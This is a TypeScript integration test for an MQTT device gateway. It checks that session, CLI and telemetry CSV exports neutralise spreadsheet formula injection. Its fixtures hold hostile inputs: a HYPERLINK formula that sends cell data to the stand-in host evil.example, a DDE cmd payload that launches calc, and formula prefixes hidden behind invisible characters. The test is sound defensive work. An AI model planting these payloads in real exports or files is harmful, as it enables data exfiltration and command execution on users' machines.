/**
 * CSV injection through the device side, against every CSV the gateway writes: a console on a real mosquitto
 * sends a session id, event codes and texts built to run as spreadsheet formulas; an operator adds hostile
 * annotation text and an acknowledgement reason. The session export over HTTP, `msc-gateway export` (built CLI,
 * journal read-only beside the daemon) and the replay screen's telemetry.csv are parsed as CSV, and no cell
 * may start a formula; the console's negative pressures stay numbers.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { connect, type MqttClient } from 'mqtt';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { encodeMqttPayload } from '../../src/protocol/mqtt.js';
import { formulaRisk, parseCsv } from '../helpers/csv.js';
import { startTestGateway, type TestGateway } from '../helpers/gateway.js';
import { runCli } from '../helpers/gatewayProcess.js';
import { startMosquitto, type MosquittoBroker } from '../helpers/mosquitto.js';
import { waitFor } from '../helpers/waitFor.js';

const DEV = 'MSC-CSV1';
/** A valid ICD session id that a spreadsheet would compute (-2-3 = -5). */
const SESSION = '-2-3';
const topic = (kind: string) => `msc/v1/${DEV}/${kind}`;

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"details")';
const EVENTS: Array<{ code: string; prio: 'H' | 'M' | 'L' | 'I'; text: string }> = [
  { code: HYPERLINK, prio: 'H', text: '@SUM(1+1)' },
  { code: '+cmd', prio: 'M', text: '\u200b=1+1' },
  { code: 'E-7', prio: 'L', text: '\uff1dSUM(A1:A9)' },
  { code: '-1+1', prio: 'I', text: 'flow ok;=1+1' },
  { code: '@x', prio: 'L', text: '' },
];
const ACK_REASON = "=cmd|' /C calc'!A0";
const NOTES = ['=HYPERLINK("http://evil.example","open")', '\u200b@SUM(1)', 'MAP 55 mmHg, =1+1', '-1+2 looks fine'];

let broker: MosquittoBroker;
let gw: TestGateway;
let dataDir: string;
let device: MqttClient;
let seq = 0;
let t0 = 0;

const publish = (kind: string, frame: Parameters<typeof encodeMqttPayload>[0]) =>
  device.publishAsync(topic(kind), encodeMqttPayload(frame), { qos: 1 });

async function fetchText(path: string, token: string): Promise<{ status: number; text: string }> {
  const r = await fetch(gw.url + path, { headers: { authorization: `Bearer ${token}` } });
  return { status: r.status, text: await r.text() };
}

/** Every cell that is not a plain number must be safe to open in a spreadsheet. */
function expectNoFormula(rows: string[][], where: string): void {
  const risky: string[] = [];
  for (const [i, row] of rows.entries()) {
    for (const cell of row) {
      if (/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell)) continue;
      const why = formulaRisk(cell);
      if (why) risky.push(`${where} row ${i}: ${JSON.stringify(cell)} (${why})`);
    }
  }
  expect(risky).toEqual([]);
}

/** The rows of one `# name` section of a session export (header first). */
function section(rows: string[][], name: string): string[][] {
  const start = rows.findIndex((r) => r[0] === `# ${name}` || r[0]?.startsWith(`# ${name} `));
  expect(start, `section ${name}`).toBeGreaterThanOrEqual(0);
  const out: string[][] = [];
  for (const r of rows.slice(start + 1)) {
    if (r.length === 1 && r[0] === '') break;
    out.push(r);
  }
  return out;
}

/** Column `name` of a section, by its header. */
const column = (rows: string[][], name: string) => {
  const i = rows[0].indexOf(name);
  expect(i, `column ${name}`).toBeGreaterThanOrEqual(0);
  return rows.slice(1).map((r) => r[i]);
};

function checkSessionExport(text: string, where: string): void {
  // A blank line between sections parses as one empty field: kept so sections can be told apart.
  const rows = parseCsv(text);
  expectNoFormula(rows, where);
  expect(column(section(rows, 'session'), 'session_id')).toEqual([`'${SESSION}`]);
  const events = section(rows, 'events');
  expect(column(events, 'code')).toEqual(EVENTS.map((e) => (e.code === 'E-7' ? e.code : `'${e.code}`)));
  expect(column(events, 'text')).toEqual(EVENTS.map((e) => (e.text === '' ? '' : `'${e.text}`)));
  const alarms = section(rows, 'alarms');
  expect(column(alarms, 'value')).toContain(`'${HYPERLINK}`);
  expect(column(alarms, 'reason')).toContain(`'${ACK_REASON}`);
  expect(column(alarms, 'alarm_id').length).toBeGreaterThan(0);
  expect(column(section(rows, 'annotations'), 'text')).toEqual(expect.arrayContaining([`'${NOTES[0]}`, `'${NOTES[1]}`, `'${NOTES[2]}`, `'${NOTES[3]}`]));
  // The console's own numbers: negative pressures stay numbers a spreadsheet can compute with.
  const telemetry = section(rows, 'telemetry');
  const pa = column(telemetry, 'PA').filter((v) => v !== '');
  expect(pa.length).toBeGreaterThan(0);
  expect(new Set(pa)).toEqual(new Set(['-85.4']));
  expect(column(telemetry, 't_ms').every((v) => /^\d+$/.test(v))).toBe(true);
}

beforeAll(async () => {
  dataDir = mkdtempSync(join(tmpdir(), 'msc-csv-'));
  broker = await startMosquitto();
  gw = await startTestGateway({ mqtt: { url: broker.url, clientId: `gw-csv-${process.pid}` } }, { dataDir });
  device = await new Promise<MqttClient>((ok, fail) => {
    const c = connect(broker.url, { clientId: `console-csv-${process.pid}`, protocolVersion: 5 });
    c.once('connect', () => ok(c));
    c.once('error', fail);
  });
  await device.publishAsync(topic('hello'), encodeMqttPayload({ type: 'HELLO', deviceId: DEV, model: 'MSC-R1', fw: '1.0', icd: 1, serialNo: 'SN-CSV' }), { qos: 1, retain: true });
  t0 = Date.now();
  await publish('state', { type: 'S', seq: ++seq, t: t0, state: 'RUNNING', sessionId: SESSION });
  for (let i = 1; i <= 5; i++) {
    await publish('telemetry', { type: 'T', seq: ++seq, t: t0 + i * 100, v: { QB: 150, PA: -85.4, PV: 110, AIR: 0, BLD: 0 } });
  }
  for (const [i, e] of EVENTS.entries()) {
    await publish('event', { type: 'EV', seq: ++seq, t: t0 + 600 + i * 10, code: e.code, prio: e.prio, active: true, text: e.text });
  }
  await waitFor(async () => (await gw.get(`/api/devices/${DEV}`)).body.counters?.events === EVENTS.length, { message: 'events received' });
  const alarm = await waitFor(async () => (await gw.get(`/api/alarms?device=${DEV}`)).body.alarms
    .find((a: { value: unknown }) => a.value === HYPERLINK), { message: 'device alarm raised' });
  const ack = await gw.post(`/api/alarms/${encodeURIComponent(alarm.id)}/ack`, { reason: ACK_REASON });
  expect(ack.status, JSON.stringify(ack.body)).toBe(200);
  for (const text of NOTES) {
    const note = await gw.post(`/api/devices/${DEV}/annotations`, { kind: 'note', text });
    expect(note.status, JSON.stringify(note.body)).toBe(201);
  }
  await publish('state', { type: 'S', seq: ++seq, t: t0 + 1_000, state: 'ENDED', sessionId: SESSION });
  await waitFor(async () => (await gw.get(`/api/sessions?device=${DEV}`)).body.sessions?.[0]?.endedAt, { message: 'session ended' });
  // Everything in the journal before the exports read it (the CLI opens it read-only from another process).
  await waitFor(() => (gw.gateway.journal!.status().pending === 0), { message: 'journal committed' });
}, 60_000);

afterAll(async () => {
  await device?.endAsync();
  await gw?.stop();
  await broker?.stop();
  if (dataDir) rmSync(dataDir, { recursive: true, force: true });
});

describe('no formula reaches a spreadsheet', () => {
  it('GET /api/sessions/:id/export?format=csv (raw and averaged)', async () => {
    for (const every of ['', '&every=1s']) {
      const r = await fetchText(`/api/sessions/${SESSION}/export?format=csv${every}`, gw.tokens.engineer);
      expect(r.status, r.text).toBe(200);
      if (every) {
        expectNoFormula(parseCsv(r.text), 'export every=1s');
        continue;
      }
      checkSessionExport(r.text, 'HTTP export');
    }
  });

  it('msc-gateway export --format csv', async () => {
    const out = join(dataDir, 'export.csv');
    // `--` ends the options: the session id starts with a hyphen.
    const r = await runCli(['export', '--out', out, '--data-dir', dataDir, '--', SESSION], {}, 30_000);
    expect(r.code, r.stderr).toBe(0);
    checkSessionExport(readFileSync(out, 'utf8'), 'CLI export');
  });

  it('GET /api/devices/:id/telemetry.csv', async () => {
    const r = await fetchText(`/api/devices/${DEV}/telemetry.csv?from=${t0}&to=${t0 + 2_000}`, gw.tokens.engineer);
    expect(r.status, r.text).toBe(200);
    const rows = parseCsv(r.text);
    expectNoFormula(rows, 'telemetry.csv');
    expect(rows).toHaveLength(6);
    expect(new Set(column(rows, 'PA'))).toEqual(new Set(['-85.4']));
  });
});
